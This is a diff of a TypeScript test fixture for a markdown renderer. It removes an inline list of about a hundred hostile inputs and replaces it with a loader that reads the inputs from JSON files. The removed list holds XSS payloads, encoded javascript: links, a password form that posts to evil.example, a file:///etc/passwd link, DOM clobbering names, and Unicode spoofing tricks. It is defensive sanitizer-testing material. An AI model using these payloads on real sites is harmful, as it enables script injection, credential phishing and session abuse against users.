@@ -1,97 +1,31 @@
-/** What somebody may send who wants more than to be read. Each is rendered as a post and as content. */
-export const hostile: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)"/>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<form action="https://evil.example"><input name="password"></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<style>body{display:none}</style>',
-  '<p style="position:fixed;inset:0">x</p>',
-  '<div onclick="alert(1)" class="button">x</div>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror="alert(1)"></video>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  '</textarea></title><script>alert(1)</script>',
-  '<form id="getElementById"><input name="cookie"></form>',
-  '<a id="location" name="document">x</a>',
-  '<img name="body">',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](<java\nscript:alert(1)>)',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
-  '[x](\u0001javascript:alert(1))',
-  '[x](javascript&#58;alert(1))',
-  '[x](%6A%61vascript:alert(1))',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](file:///etc/passwd)',
-  '[x](blob:https://evil.example/1)',
-  '[x](//evil.example)',
-  '[x](/\\evil.example)',
-  '[x](\\\\evil.example)',
-  '[x](/pt/account/sign-out)',
-  '[x](?delete=1)',
-  '[x](tel:+123)',
-  '[x](intent://scan/#Intent;end)',
-  '[x](https://evil.example" onmouseover="alert(1))',
-  '[x](https://evil.example "\\" onmouseover=\\"alert(1)")',
-  '[x](https://evil.example \'" autofocus onfocus="alert(1)\')',
-  '<javascript:alert(1)>',
-  '<https://evil.example"onclick=alert(1)>',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/pixel.gif)',
-  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
-  '![" onerror="alert(1)](x)',
-  '![x](/files/../api/auth/signout)',
-  '![x](/files/abc?x=1)',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '[x][1]\n\n[1]: data:text/html,x',
-  '```js" onclick="alert(1)\nx\n```',
-  '```x&#x20;admin-button&#x20;hidden\nx\n```',
-  '```language-x\\ evil\nx\n```',
-  '~~~"><script>alert(1)</script>\nx\n~~~',
-  '`<script>alert(1)</script>`',
-  '# <img src=x onerror=alert(1)>',
-  '# constructor\n# __proto__\n# location',
-  '# " onclick="alert(1)',
-  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|--|--|\n| [x](javascript:alert(1)) | x |',
-  '[^x]: <script>alert(1)</script>\n\n[^x]',
-  '- [x] <input onfocus=alert(1) autofocus>',
-  'https://evil.example/\u202Egpj.exe',
-  '[\u202Egro.oli.www](https://evil.example)',
-  'java\u200Bscript:alert(1) [x](java\u200Bscript:alert(1))',
-  '[x](https://il\u00ADo.org\u2060.evil.example)',
-  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  '\uFEFF<script>alert(1)</script>',
-  '\u2028<script>alert(1)</script>\u2029',
-  '\uD800<script>alert(1)</script>',
-  '＜script＞alert(1)＜/script＞',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
-  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
-  'www.evil.example"onmouseover="alert(1)',
-  'a@evil.example?bcc=b@evil.example&body=<script>',
-  '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
-  '<p dir="rtl" lang="x" tabindex="1" accesskey="s" contenteditable>x</p>',
-]
+import { readdirSync, readFileSync } from 'node:fs'
+
+const folder = 'tests/rules/markdown/hostile'
+
+type Long = { repeat: string; times: number; then: string }
+
+const read = <T>(name: string): T[] =>
+  JSON.parse(readFileSync(`${folder}/${name}.json`, 'utf8')) as T[]
+
+const apart = ['long', 'names']
+const tables = readdirSync(folder)
+  .map((name) => name.replace(/\.json$/, ''))
+  .filter((name) => !apart.includes(name))
+
+/**
+ * What somebody may send who wants more than to be read. Each is rendered as a post and as content.
+ * More are added by putting a file of texts, a JSON list, beside the others.
+ */
+export const hostile: readonly string[] = tables.flatMap((name) => read<string>(name))
+
+/** Those of them that tell one version of the renderer from another. */
+export const fixedHostile: readonly string[] = read<string>('first')
+
+/** Texts that take their strength from their length. */
+export const longTexts = read<Long>('long').map(({ repeat, times, then }) => ({
+  name: `${times} times ${JSON.stringify(repeat)}`,
+  text: repeat.repeat(times) + then,
+}))
+
+/** Names that somebody may give himself. */
+export const hostileNames: readonly string[] = read<string>('names')
